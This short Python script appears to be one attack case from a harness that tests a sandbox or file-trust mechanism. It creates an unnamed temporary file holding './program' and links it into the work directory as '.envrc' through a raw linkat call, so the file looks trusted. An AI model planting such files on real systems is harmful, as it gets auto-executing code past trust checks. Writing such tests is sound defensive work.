# A file that has no name gets one that is trusted.
import os

from calls import AT_FDCWD, call
from inside import run

LINKAT = 265 if os.uname().machine == "x86_64" else 37
AT_SYMLINK_FOLLOW = 0x400


def attack(target):
    fd = os.open(target.work, os.O_TMPFILE | os.O_RDWR, 0o644)
    os.write(fd, b"./program\n")
    name = f"{target.work}/.envrc".encode()
    call(LINKAT, AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, name, AT_SYMLINK_FOLLOW)


run(attack)
